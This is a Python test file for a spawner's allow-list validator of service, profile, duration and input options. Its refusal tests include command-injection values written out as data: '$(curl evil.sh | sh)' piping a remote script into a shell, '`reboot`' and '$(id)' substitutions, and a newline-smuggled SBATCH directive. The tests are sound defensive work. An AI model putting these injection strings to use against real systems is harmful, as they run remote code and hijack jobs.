"""The one validator for user_options, forms and query strings: an allow-list."""

from __future__ import annotations

import re
from datetime import timedelta
from typing import Any

import pytest

from berth.hub_config.catalog import Catalog
from berth.spawners.options import (
    OptionsError,
    check_session_name,
    options_from_form,
    validate_user_options,
)

MODEL = "meta-llama/Llama-3.1-8B-Instruct"


def refused(catalog: Catalog, options: Any, groups: tuple[str, ...] = ()) -> str:
    with pytest.raises(OptionsError) as info:
        validate_user_options(catalog, options, groups)
    assert info.value.status_code == 400
    return info.value.message


def test_empty_options_pick_the_first_service_profile_and_default_duration(
    example_catalog: Catalog,
) -> None:
    selection = validate_user_options(example_catalog, {})
    assert selection.service.name == "jupyter"
    assert selection.profile.name == "cpu-small"
    assert selection.duration == timedelta(hours=2)
    assert selection.to_user_options() == {
        "service": "jupyter",
        "profile": "cpu-small",
        "hours": 2.0,
        "inputs": {},
    }


def test_full_choice_with_inputs_and_defaults(example_catalog: Catalog) -> None:
    selection = validate_user_options(
        example_catalog,
        {"service": "vllm", "profile": "gpu-1", "hours": 1.5, "inputs": {"model": MODEL}},
    )
    assert selection.duration == timedelta(minutes=90)
    assert selection.inputs == {"model": MODEL, "max_model_len": 8192}
    assert selection.policy.idle_timeout == timedelta(minutes=30)  # the gpu-1 profile's


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ("vllm", "user_options must be an object, got 'vllm'"),
        (
            {"service": "jupyter", "image": "evil:latest"},
            "unknown option 'image'; allowed options: service, profile, hours, inputs",
        ),
        (
            {"service": "bash"},
            "unknown service 'bash'; available: jupyter, code-server, rstudio, vllm, ollama,"
            " terminal, files",
        ),
        (
            {"service": "vllm", "profile": "cpu-small", "inputs": {"model": MODEL}},
            "'cpu-small' is not a profile vllm runs on; choose one of: gpu-1",
        ),
        (
            {"service": "vllm", "profile": "gpu-4", "inputs": {"model": MODEL}},
            "profile 'gpu-4' is limited to the groups gpu-large; you may use: gpu-1",
        ),
        ({"service": "vllm"}, "vllm needs the input 'model' (Hugging Face model id"),
        (
            {"service": "vllm", "inputs": {"model": MODEL, "gpu": 8}},
            "vllm has no input 'gpu'; its inputs are: model, max_model_len",
        ),
        (
            {"service": "vllm", "inputs": {"model": 42}},
            "input 'model' of vllm: expected text, got 42",
        ),
        (
            {"service": "vllm", "inputs": {"model": MODEL, "max_model_len": "8192"}},
            "input 'max_model_len' of vllm: expected a whole number, got '8192'",
        ),
        (
            {"service": "vllm", "inputs": {"model": MODEL, "max_model_len": 10**9}},
            "input 'max_model_len' of vllm: 1000000000 is above the maximum of 131072",
        ),
        (
            {"service": "vllm", "inputs": {"model": "a/" + "b" * 300}},
            "input 'model' of vllm: 302 characters is too long; at most 200 allowed",
        ),
        (
            {"service": "vllm", "inputs": {"model": "org/model\n#SBATCH --gres=gpu:8"}},
            "input 'model' of vllm: control characters such as newlines are not allowed",
        ),
        (
            {"service": "vllm", "inputs": {"model": "$(curl evil.sh | sh)"}},
            "input 'model' of vllm: '$(curl evil.sh | sh)' does not match the allowed pattern",
        ),
        (
            {"service": "vllm", "inputs": {"model": "`reboot`/x"}},
            "input 'model' of vllm: '`reboot`/x' does not match the allowed pattern",
        ),
        ({"service": "jupyter", "hours": "2"}, "hours must be a number such as 2 or 0.5"),
        ({"service": "jupyter", "hours": True}, "hours must be a number such as 2 or 0.5"),
        ({"service": "jupyter", "hours": float("nan")}, "hours must be a number"),
        ({"service": "jupyter", "hours": -1}, "hours must be at least one minute"),
        (
            {"service": "jupyter", "hours": 9},
            "9 hours is longer than the 8 hours allowed for jupyter on cpu-small; ask for at"
            " most 8",
        ),
        ({"service": "jupyter", "inputs": ["x"]}, "inputs must be an object of name to value"),
    ],
)
def test_refusals_say_what_was_wrong_and_what_is_allowed(
    example_catalog: Catalog, options: Any, message: str
) -> None:
    assert message in refused(example_catalog, options)


def test_groups_open_longer_sessions_and_limited_profiles(example_catalog: Catalog) -> None:
    options = {"service": "jupyter", "profile": "gpu-4", "hours": 20}
    assert "limited to the groups gpu-large" in refused(example_catalog, options)
    assert "20 hours is longer than the 4 hours" in refused(
        example_catalog, options, ("gpu-large",)
    )
    selection = validate_user_options(example_catalog, options, ("gpu-large", "long-runs"))
    assert selection.duration == timedelta(hours=20)


@pytest.mark.parametrize("name", ["nb", "llm-1", "gpu-notebook-2", "a" * 30])
def test_safe_session_names(name: str) -> None:
    check_session_name(name)


@pytest.mark.parametrize(
    "name", ["-x", "1st", "a b", "a;b", "$(id)", "a\nb", "é", "a" * 31, "a'b", "A", "a--b", "a-"]
)
def test_unsafe_session_names(name: str) -> None:
    with pytest.raises(OptionsError, match="is not a valid session name"):
        check_session_name(name)


def test_form_fields_of_the_chosen_tile_only(example_catalog: Catalog) -> None:
    form = {
        "service": ["vllm"],
        "vllm.profile": ["gpu-1"],
        "vllm.hours": ["1.5"],
        "vllm.input.model": [MODEL],
        "vllm.input.max_model_len": ["4096"],
        # another tile's fields are ignored
        "jupyter.profile": ["cpu-large"],
        "jupyter.hours": ["7"],
    }
    options = options_from_form(example_catalog, form)
    assert options == {
        "service": "vllm",
        "profile": "gpu-1",
        "hours": 1.5,
        "inputs": {"model": MODEL, "max_model_len": 4096},
    }
    assert validate_user_options(example_catalog, options).inputs["max_model_len"] == 4096


def test_query_string_links(example_catalog: Catalog) -> None:
    query = {"service": ["vllm"], "profile": ["gpu-1"], "input.model": [MODEL]}
    options = options_from_form(example_catalog, query)
    assert options == {"service": "vllm", "profile": "gpu-1", "inputs": {"model": MODEL}}


def test_form_text_that_is_not_a_number_is_refused(example_catalog: Catalog) -> None:
    with pytest.raises(
        OptionsError, match=re.escape("hours must be a number such as 2 or 0.5, got 'two'")
    ):
        options_from_form(example_catalog, {"service": ["jupyter"], "jupyter.hours": ["two"]})
    with pytest.raises(OptionsError, match="input 'max_model_len' of vllm: expected a whole"):
        options_from_form(
            example_catalog, {"service": ["vllm"], "vllm.input.max_model_len": ["8k"]}
        )
